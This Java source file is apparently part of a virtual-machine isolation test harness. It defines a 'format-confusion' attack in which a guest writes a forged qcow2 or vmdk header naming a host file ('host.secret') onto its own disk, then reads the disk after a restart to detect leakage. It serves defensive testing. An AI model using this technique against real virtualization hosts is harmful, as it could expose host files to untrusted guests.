package cofferdam.attacks.disk;

import cofferdam.attacks.Adversary;
import cofferdam.attacks.Attack;
import cofferdam.attacks.Boundary;
import cofferdam.attacks.MissingCapabilityException;
import cofferdam.attacks.Setting;
import cofferdam.attacks.Telltale;
import cofferdam.monitor.OwnDisk;

import java.util.List;
import java.util.function.Consumer;

/** A guest makes its raw disk look like a container with a backing file (CVE-2008-2004, CVE-2026-27211). */
public final class FormatConfusion implements Attack {

    /** The file that the host keeps beside the images. */
    static final String HOST_FILE = "host.secret";

    private static final Setting.Choice FORMAT =
            new Setting.Choice("format", "whose header is written", List.of("qcow2", "vmdk"));

    @Override
    public String name() {
        return "format-confusion";
    }

    @Override
    public String summary() {
        return "writes a container's header that names a file of the host into its disk; reads the disk later";
    }

    @Override
    public Boundary boundary() {
        return Boundary.DISK;
    }

    @Override
    public List<Setting> settings() {
        return List.of(FORMAT);
    }

    @Override
    public Victims victims() {
        return new Victims(0, 1);
    }

    @Override
    public Campaign start(Adversary adversary) throws MissingCapabilityException {
        OwnDisk disk = adversary
                .machine()
                .offer(OwnDisk.class)
                .orElseThrow(MissingCapabilityException::new);
        String format = adversary.settings().choice(FORMAT.name());
        adversary.report().accept(HostAccess.attempt(() -> {
            int size = disk.readAll().length;
            byte[] header = format.equals("vmdk")
                    ? ForgedHeader.vmdk(size, HOST_FILE)
                    : ForgedHeader.qcow2(size, HOST_FILE);
            disk.write(0, header);
            return "%s header that names %s written".formatted(format, HOST_FILE);
        }));
        return new Reading(disk, adversary.report());
    }

    /** Reads the disk at the end, when the machine has been switched off and on again. */
    private static final class Reading implements Campaign {

        private final OwnDisk disk;
        private final Consumer<String> report;
        private boolean stopped;

        Reading(OwnDisk disk, Consumer<String> report) {
            this.disk = disk;
            this.report = report;
        }

        @Override
        public boolean ready() {
            return true;
        }

        @Override
        public void stop() {
            if (!stopped) {
                stopped = true;
                report.accept(HostAccess.attempt(() -> Telltale.report(disk.readAll())));
            }
        }

        @Override
        public boolean stopped() {
            return stopped;
        }
    }
}
